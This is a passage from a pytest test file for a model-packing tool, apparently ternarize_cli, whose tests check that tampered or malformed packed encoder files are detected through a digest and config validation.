    values = [*values, values[-1] | {"name": "more"}] if isinstance(values, list) else values | {"more": 1}
    (packed / name).write_text(json.dumps(values))
    with pytest.raises(FormatError, match=f"{name} is not what was packed".replace(".", r"\.")):
        load_encoder(packed)


def test_files_that_come_or_go_are_found(packed: Path) -> None:
    (packed / "added_tokens.json").write_text("{}")
    with pytest.raises(FormatError, match=r"added_tokens\.json was added"):
        load_encoder(packed)
    (packed / "added_tokens.json").unlink()
    (packed / "modules.json").unlink()
    with pytest.raises(FormatError, match="is missing; it was there when the model was packed"):
        load_encoder(packed)


def test_a_card_may_be_written(packed: Path) -> None:
    (packed / "README.md").write_text("a better card")
    (packed / "picture.png").write_bytes(b"x")
    load_encoder(packed)


def test_transformers_itself_verifies_the_digest(packed: Path) -> None:
    from transformers import AutoModel

    import ternarize_cli.hf  # noqa: F401

    AutoModel.from_pretrained(packed)
    tensors = tensors_of(packed)
    key = "encoder.layer.0.output.dense.weight_scale"
    write(packed, tensors | {key: tensors[key] * 2})
    with pytest.raises(FormatError, match="is not what was packed"):
        AutoModel.from_pretrained(packed)
    seal(packed)
    AutoModel.from_pretrained(packed)


def test_a_model_that_was_saved_again_opens_with_a_note(packed: Path, caplog: pytest.LogCaptureFixture) -> None:
    encoder = load_encoder(packed)
    expected = encoder.encode(["the cat"])
    encoder.save(str(packed.parent / "again"))
    assert (load_encoder(packed.parent / "again").encode(["the cat"]) == expected).all()
    assert "again has no digest" in caplog.text


def test_a_packed_model_of_version_1_opens_with_a_note(packed: Path, caplog: pytest.LogCaptureFixture) -> None:
    load_encoder(make_version_1(packed))
    assert "has no digest" in caplog.text


def test_verification_can_be_left_out_and_says_so(
    packed: Path, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
) -> None:
    edit(packed / "tokenizer_config.json", more=1)
    monkeypatch.setenv("TERNARIZE_VERIFY", "0")
    load_encoder(packed)
    assert "without verifying its digest" in caplog.text
    with pytest.raises(FormatError, match="is not what was packed"):
        inspect(packed)


def test_a_ternary_checkpoint_has_no_digest(packed: Path) -> None:
    config = json.loads((packed.parent / "latent" / "config.json").read_text())
    assert "digest" not in config["quantization_config"]


def test_unknown_keys_of_the_description_are_refused(packed: Path) -> None:
    config = json.loads((packed / "config.json").read_text())
    config["quantization_config"]["dihest"] = config["quantization_config"].pop("digest")
    (packed / "config.json").write_text(json.dumps(config))
    with pytest.raises(FormatError, match="unknown keys: 'dihest'"):
        load_encoder(packed)


@pytest.mark.parametrize("command", ["encode", "convert", "inspect", "bench", "eval"])
def test_a_class_name_outside_a_list_is_refused_by_every_command(
    run: Any, folder: Path, command: str, tmp_path: Path
) -> None:
    edit(folder / "config.json", architectures="BertForSequenceClassification")
    (tmp_path / "t.csv").write_text("the cat,a cat,1\na dog,the dog,0\nthe dog,a dog,1\n")
    (tmp_path / "t.txt").write_text("the cat\n")
    more = {"encode": [tmp_path / "t.txt"], "convert": ["-o", tmp_path / "o"], "eval": ["--sts", tmp_path / "t.csv"]}
    result = run(command, folder, *more.get(command, []))
    assert result.exit_code == 2
    assert "architectures is 'BertForSequenceClassification'; it must be a list of names of classes" in result.stderr
    assert '"architectures": ["BertForSequenceClassification"]' in result.stderr


@pytest.mark.parametrize("key", ["path", "type"])
def test_an_entry_of_modules_json_without_a_key_is_named(run: Any, folder: Path, key: str, tmp_path: Path) -> None:
    modules = json.loads((folder / "modules.json").read_text())
    name = modules[1]["name"]
    del modules[1][key]
    (folder / "modules.json").write_text(json.dumps(modules))
    for command in (("inspect", folder), ("convert", folder, "-o", tmp_path / "o"), ("bench", folder)):
        result = run(*command)
        assert result.exit_code == 2
        assert f'modules.json: entry 2 ({name}) has no "{key}"' in result.stderr
